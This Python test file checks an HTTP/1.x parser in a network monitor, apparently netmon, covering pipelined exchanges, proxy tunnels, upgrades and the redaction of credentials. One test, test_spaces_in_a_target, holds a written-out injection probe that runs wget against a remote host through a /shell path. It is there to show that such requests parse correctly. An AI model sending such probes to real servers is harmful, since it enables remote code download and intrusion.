"""HTTP/1.x: every exchange of a connection, however it is cut; nothing secret; nothing that only resembles it."""

from __future__ import annotations

from base64 import b64encode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from netmon.errors import ParseError
from netmon.model.finding import Attention, Confidence, Finding, Role
from netmon.protocols import _http_message, ssh
from netmon.protocols._contract import CLIENT, SERVER, Claim, Context, Status
from netmon.protocols.http1 import PROTOCOL

from ._asn1 import ntlm_authenticate
from ._talk import Talk, Wire, engine, every_cutting, fields, finding_of, run

TCP = Context("tcp", 50000, 80)
MIDSTREAM = Context("tcp", 50000, 80, midstream=True)

GET = (
    b"GET /a/b;jsessionid=SECRET1/c?token=SECRET2#x HTTP/1.1\r\nHost: Www.Example.org:8080\r\n"
    b"User-Agent: curl/8.5.0\r\nCookie: sid=SECRET3\r\nAuthorization: Basic SECRET4\r\n\r\n"
)
OK = (
    b"HTTP/1.1 200 OK\r\nServer: nginx/1.24\r\nContent-Type: text/html; charset=utf-8\r\n"
    b"Set-Cookie: sid=SECRET5\r\nContent-Length: 5\r\n\r\nhello"
)
POST = (
    b"POST /login HTTP/1.1\r\nHost: example.org\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: 25\r\n\r\nuser=me&password=SECRET66"
)
CHUNKED = (
    b"HTTP/1.1 404 Not Found\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"5;ext=1\r\nGET /\r\n1F\r\nHTTP/1.1 500 Nothing of the kind\r\n0\r\nTrailer: x\r\n\r\n"
)
KEEP_ALIVE: Talk = [
    (CLIENT, GET),
    (SERVER, OK),
    (CLIENT, b"HEAD /h HTTP/1.1\r\nHost: example.org\r\n\r\n" + POST),
    (SERVER, b"HTTP/1.1 301 Moved\r\nContent-Length: 99\r\n\r\n" + b"HTTP/1.1 100 Continue\r\n\r\n" + CHUNKED),
    (CLIENT, b"DELETE /d HTTP/1.0\r\n\r\n"),
    (SERVER, b"HTTP/1.1 304 Not Modified\r\nContent-Length: 7\r\n\r\n" + b"\r\n"),
    (CLIENT, b"OPTIONS * HTTP/1.1\nHost: [2001:db8::1]:80\n\n"),
    (SERVER, b"HTTP/1.1 204 No Content\n\n"),
]
KEEP_ALIVE_FIELDS = {
    "http_method": ("GET", "HEAD", "POST", "DELETE", "OPTIONS"),
    "http_version": ("1.1", "1.0"),
    "http_path": ("/a/b/c", "/h", "/login", "/d", "*"),
    "http_host": ("Www.Example.org:8080", "example.org", "[2001:db8::1]:80"),
    "user_agent": ("curl/8.5.0",),
    "http_status": (200, 301, 100, 404, 304, 204),
    "http_server": ("nginx/1.24",),
    "http_content_type": ("text/html", "application/x-www-form-urlencoded"),
}


def text_of(finding: Finding | None) -> str:
    return repr(finding)


def test_one_exchange() -> None:
    """Method, host, path, status and software; summary and host name; a bound on idleness."""
    finding = run(Wire().frames([(CLIENT, GET), (SERVER, OK)]))
    assert finding is not None
    assert (finding.label, finding.confidence, finding.idle_timeout) == ("HTTP", Confidence.CONTENT, 600.0)
    assert (finding.hostname, finding.hostname_source) == ("www.example.org", "http")
    assert finding.summary == "GET Www.Example.org:8080/a/b/c 200"


def test_all_exchanges_of_a_connection() -> None:
    """Bodies by length, chunks, HEAD, 1xx, 204 and 304 are stepped over; bodies that look like messages are bodies."""
    assert fields(run(Wire().frames(KEEP_ALIVE))) == KEEP_ALIVE_FIELDS


def test_every_cutting_gives_the_same() -> None:
    """Byte by byte, in any pieces, shuffled and repeated: the same finding."""
    results = every_cutting(KEEP_ALIVE)
    assert all(finding == results["whole"] for finding in results.values()), results


def test_nothing_secret_is_kept() -> None:
    """Queries, cookies, authorisation, session identifiers and forms are nowhere; that they were sent is a risk."""
    finding = run(Wire().frames(KEEP_ALIVE))
    assert "SECRET" not in text_of(finding)
    assert finding is not None
    assert finding.risks == ("clear-text-credentials",)


@pytest.mark.parametrize(
    ("request_head", "risky"),
    [
        (b"GET / HTTP/1.1\r\nAuthorization: bearer SECRET\r\n\r\n", True),
        (b"GET http://me:SECRET@example.org/p HTTP/1.1\r\n\r\n", True),
        (b"GET /p HTTP/1.1\r\nHost: me:SECRET@example.org\r\n\r\n", False),
        (POST, True),
        (POST.replace(b"password", b"passport"), False),
        (b"GET / HTTP/1.1\r\nAuthorization: Digest SECRET\r\n\r\n", False),
    ],
)
def test_credentials_in_clear(request_head: bytes, risky: bool) -> None:
    """Basic and bearer authorisation, user information in a target and password forms are flagged, never kept."""
    finding = run(Wire().frames([(CLIENT, request_head)]))
    assert finding is not None
    assert ("clear-text-credentials" in finding.risks) is risky
    assert "SECRET" not in text_of(finding)


def test_absolute_form() -> None:
    """A request to a proxy names the host in its target."""
    finding = run(Wire().frames([(CLIENT, b"GET http://example.org:81/x?y HTTP/1.1\r\n\r\n")]))
    assert fields(finding)["http_path"] == ("/x",)
    assert fields(finding)["http_host"] == ("example.org:81",)
    assert finding is not None
    assert finding.hostname == "example.org"


def test_exchanges_measure_the_first_byte() -> None:
    """From the end of a request to the first byte of its answer, paired in order, pipelined or not."""
    wire = Wire()
    machine = engine(PROTOCOL)
    frames = wire.frames([(CLIENT, GET), (CLIENT, POST), (SERVER, OK[:7]), (SERVER, OK[7:] + CHUNKED)])
    exchanges = [exchange for _, update in machine.inspect(frames).updates for exchange in update.exchanges]
    assert {exchange.what for exchange in exchanges} == {"http-first-byte"}
    times = {(exchange.key, exchange.role): exchange.timestamp_ns for exchange in exchanges}
    assert times == {
        (0, Role.REQUEST): frames[0].timestamp_ns,
        (1, Role.REQUEST): frames[1].timestamp_ns,
        (0, Role.RESPONSE): frames[2].timestamp_ns,
        (1, Role.RESPONSE): frames[3].timestamp_ns,
    }


def test_connect_hands_over() -> None:
    """After CONNECT and 2xx the rest is recognised anew, inside HTTP, with the host that was asked for."""
    talk: Talk = [
        (CLIENT, b"CONNECT inner.example:22 HTTP/1.1\r\nHost: inner.example:22\r\n\r\n"),
        (SERVER, b"HTTP/1.1 200 Connection established\r\n\r\nSSH-2.0-Server\r\n"),
        (CLIENT, b"SSH-2.0-Client\r\n"),
    ]
    for finding in every_cutting(talk).values():
        assert finding is not None
        assert (finding.label, finding.outer, finding.hostname) == ("SSH", ("HTTP",), "inner.example")
        assert fields(finding)["ssh_client"] == ("SSH-2.0-Client",)
        assert fields(finding)["http_method"] == ("CONNECT",)
        assert fields(finding)["http_path"] == ("inner.example:22",)


def test_refused_connect_goes_on() -> None:
    """After a refusal the connection is HTTP as before."""
    talk: Talk = [
        (CLIENT, b"CONNECT a.example:443 HTTP/1.1\r\n\r\n"),
        (CLIENT, b"GET /next HTTP/1.1\r\n\r\n"),
        (SERVER, b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n" + OK),
    ]
    for finding in every_cutting(talk).values():
        assert fields(finding)["http_method"] == ("CONNECT", "GET")
        assert fields(finding)["http_status"] == (403, 200)


def test_web_socket() -> None:
    """101 to a WebSocket: labelled as such inside HTTP, and nothing more is inspected."""
    wire = Wire()
    machine = engine(PROTOCOL)
    harvest = machine.inspect(
        wire.frames(
            [
                (CLIENT, b"GET /ws HTTP/1.1\r\nHost: w.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
                (SERVER, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: WebSocket\r\n\r\n\x81\x05hello"),
            ]
        )
    )
    finding = finding_of(harvest.updates)
    assert finding is not None
    assert (finding.label, finding.outer, finding.hostname) == ("WebSocket", ("HTTP",), "w.example")
    assert harvest.attentions[-1] == (1, Attention.DONE)


def test_upgrade_to_http2_is_named() -> None:
    """After 101 to h2c what follows is HTTP/2, whoever reads it."""
    inspector = PROTOCOL.start(TCP)
    inspector.feed(CLIENT, b"GET / HTTP/1.1\r\nUpgrade: h2c\r\nHTTP2-Settings: x\r\n\r\nPRI * HTTP/2.0\r\n\r\n", 1)
    status = inspector.feed(SERVER, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n\0\0\0", 2)
    assert status is Status.SWITCH
    switch = inspector.switch()
    assert (switch.hint, switch.client_rest, switch.server_rest) == ("HTTP2", b"PRI * HTTP/2.0\r\n\r\n", b"\0\0\0")


def test_server_told_twice() -> None:
    """By a proxy and by what stands behind it."""
    answer = OK.replace(b"Server: ", b"Server: Caddy\r\nserver: ")
    for finding in every_cutting([(CLIENT, GET), (SERVER, answer)]).values():
        assert fields(finding)["http_server"] == ("Caddy", "nginx/1.24")


def test_long_bodies_end_inspection() -> None:
    """A body that only ends with the connection, or whose end was sought for long, is not followed frame by frame."""
    inspector = PROTOCOL.start(TCP)
    inspector.feed(CLIENT, GET, 1)
    assert inspector.feed(SERVER, b"HTTP/1.1 200 OK\r\n\r\n", 2) is Status.DONE
    inspector = PROTOCOL.start(TCP)
    inspector.feed(CLIENT, GET, 1)
    assert inspector.feed(SERVER, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFF\r\n", 2) is Status.ALWAYS
    assert inspector.feed(SERVER, b"x" * (_http_message.LARGE + 1), 3) is Status.DONE


def test_bodies_are_stepped_over() -> None:
    """However long: neither fed nor wanted of the meter; what follows is told, and when the body ended is known."""
    size = 3_000_000
    head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % size
    chunk = b"HTTP/1.1 201 OK\r\nTransfer-Encoding: chunked\r\n\r\n%X\r\n" % size
    wire = Wire()
    machine = engine(PROTOCOL)
    upload = b"PUT /big HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % size
    machine.inspect(wire.frames([(CLIENT, GET), (SERVER, OK), (CLIENT, GET)]))
    end = wire.offsets[SERVER] + len(head) + size
    assert machine.inspect([wire.frame(SERVER, head + bytes(10))]).steps == [(1, SERVER, end - 1)]
    late = [wire.frame(SERVER, bytes(1000), at) for at in (end - 1500, end - 1001)]
    assert machine.inspect(late).steps == []
    wire.offsets[SERVER] = end - 1
    answers = [wire.frame(SERVER, b"x" + chunk), wire.frame(SERVER, bytes(90_000), wire.offsets[SERVER] + size - 90_000)]
    end = wire.offsets[SERVER] + size + 2
    steps = machine.inspect([wire.frame(CLIENT, GET), *answers, wire.frame(CLIENT, upload + bytes(500))]).steps
    assert steps == [(1, SERVER, end - 1), (1, CLIENT, wire.offsets[CLIENT] + size - 501)]
    wire.offsets[SERVER], wire.offsets[CLIENT] = end - 2, wire.offsets[CLIENT] + size - 500
    ends = [wire.frame(SERVER, b"\r\n0\r\n\r\n"), wire.frame(CLIENT, b"x", wire.offsets[CLIENT] - 1)]
    updates = machine.inspect([*ends, wire.frame(SERVER, b"HTTP/1.1 202 OK\r\nContent-Length: 0\r\n\r\n")]).updates
    assert fields(finding_of(updates))["http_status"] == (200, 201, 202)
    assert machine.statistics().holes == 0


def test_what_is_no_message_ends_inspection() -> None:
    """Something else behind a body although nothing is missing: requests are given up, responses end it."""
    junk = bytes(range(256)) * 1000
    inspector = PROTOCOL.start(TCP)
    inspector.feed(CLIENT, POST, 1)
    inspector.feed(SERVER, OK, 2)
    assert inspector.feed(CLIENT, junk, 3) is Status.ALWAYS
    assert (inspector.step_over(CLIENT), inspector.step_over(SERVER)) == (_http_message.ENDLESS, 0)
    assert inspector.feed(SERVER, OK, 4) is Status.ALWAYS
    assert inspector.feed(SERVER, junk, 5) is Status.DONE


def test_cut_request_line() -> None:
    """A snap length inside the request line: the method, and the target only when it is complete."""
    for cut, path in ((50, ("/a/b/c",)), (20, None)):
        frame = Wire().frame(CLIENT, GET[:cut], length=len(GET))
        found = fields(run([frame]))
        assert (found["http_method"], found.get("http_path")) == (("GET",), path)


def test_joined_mid_stream() -> None:
    """In the middle of a body, the other way round: exchanges are told from the first whole head on."""
    wire = Wire()
    wire.midstream = True
    finding = run(wire.frames([(SERVER, b"rest of something\n" + OK), (CLIENT, POST), (SERVER, OK)]))
    assert fields(finding)["http_status"] == (200,)
    assert fields(finding)["http_path"] == ("/login",)
    wire = Wire()
    wire.midstream = True
    finding = run(wire.frames([(CLIENT, OK), (SERVER, GET), (CLIENT, OK)]))
    assert fields(finding)["http_status"] == (200,)
    assert fields(finding)["http_method"] == ("GET",)


def test_values_are_bounded() -> None:
    """At most 400 distinct values of a field, each cut."""
    head = b"GET /%d" + b"x" * 1000 + b" HTTP/1.1\r\n\r\n"
    finding = run(Wire().frames([(CLIENT, b"".join(head.replace(b"%d", b"%d" % number) for number in range(500)))]))
    paths = fields(finding)["http_path"]
    assert len(paths) == 400
    assert max(len(str(path)) for path in paths) == 512


@settings(deadline=None, max_examples=150)
@given(
    st.lists(
        st.tuples(
            st.integers(0, 1),
            st.one_of(
                st.binary(max_size=80),
                st.integers(1, 50),
                st.sampled_from((GET, OK, POST, CHUNKED, b"\r\n", b"\r\n\r\n", b"0\r\n\r\n", b"HTTP/1.1 101 X\r\n\r\n")),
            ),
        ),
        max_size=20,
    ),
    st.booleans(),
)
def test_hostile_streams(pieces: list[tuple[int, bytes | int]], midstream: bool) -> None:
    """Any bytes and gaps in any order raise nothing but ParseError and leak no secret."""
    inspector = PROTOCOL.start(MIDSTREAM if midstream else TCP)
    for side, piece in pieces:
        try:
            status = inspector.gap(side, piece) if isinstance(piece, int) else inspector.feed(side, piece, 1)
        except ParseError:
            return
        if status is Status.SWITCH:
            inspector.switch()
            return
    assert "SECRET" not in repr(inspector.update())


def test_spaces_in_a_target() -> None:
    """Servers accept what attackers send; the query goes, spaces and all."""
    probe = b"GET /shell?cd+/tmp; wget http://192.0.2.1/a HTTP/1.1\r\nHost: 192.0.2.2\r\n\r\n"
    assert PROTOCOL.claims(TCP, probe, b"") is Claim.YES
    finding = run(Wire().frames([(CLIENT, probe)]), engine(PROTOCOL))
    assert fields(finding)["http_path"] == ("/shell",)
    assert PROTOCOL.claims(TCP, b"GET the words HTTP/1.1\r\n", b"") is Claim.NO


def test_version_0_9_is_believed_when_a_document_answers() -> None:
    """A request without a version is anybody's."""
    assert PROTOCOL.claims(TCP, b"GET /a.html\r\n", b"") is Claim.MORE
    assert PROTOCOL.claims(TCP, b"GET /a.html\r\n", b"<html>") is Claim.WEAK
    assert PROTOCOL.claims(TCP, b"GET /a.html\r\n", b"VALUE x") is Claim.NO
    assert PROTOCOL.claims(TCP, b"GET /a.html\r\nmore\r\n", b"<html>") is Claim.NO


@pytest.mark.parametrize("talk", [[(SERVER, b"SSH-2.0-X\r\n"), (CLIENT, GET)], [(CLIENT, GET), (SERVER, b"SSH-2.0-X\r\n")]])
def test_a_web_client_that_knocks_at_an_ssh_server(talk: Talk) -> None:
    """The conversation is the server's, whoever speaks first."""
    finding = run(Wire().frames(talk), engine(PROTOCOL, ssh.PROTOCOL))
    assert finding is not None
    assert finding.label == "SSH"
    assert fields(finding)["ssh_server"] == ("SSH-2.0-X",)


def test_who_knocks_at_an_ssh_server() -> None:
    """Host and user agent, however the request is cut; none of a head that never ends, or that a hole cuts."""
    greeting = (SERVER, b"SSH-2.0-X\r\n")
    for finding in every_cutting([(CLIENT, GET), greeting]).values():
        told = fields(finding)
        assert (finding.label if finding else "") == "SSH"
        assert (told["http_host"], told["user_agent"]) == (("Www.Example.org:8080",), ("curl/8.5.0",))
        assert "SECRET" not in text_of(finding)
    endless = GET[:-2] + b"X: y\r\n" * 2000
    for talk in ([(CLIENT, endless), greeting], [(CLIENT, GET[:-2]), greeting]):
        finding = run(Wire().frames(talk), engine(PROTOCOL, ssh.PROTOCOL))
        assert finding is not None and finding.label == "SSH"
        assert "http_host" not in fields(finding)


def test_ntlm_names_the_user() -> None:
    """The name in the token; the token is not told."""
    token = b64encode(ntlm_authenticate())
    finding = run(
        Wire().frames([(CLIENT, b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: NTLM %b\r\n\r\n" % token)]), engine(PROTOCOL)
    )
    assert fields(finding)["ntlm_user"] == ("alice",)
    assert token.decode() not in text_of(finding)
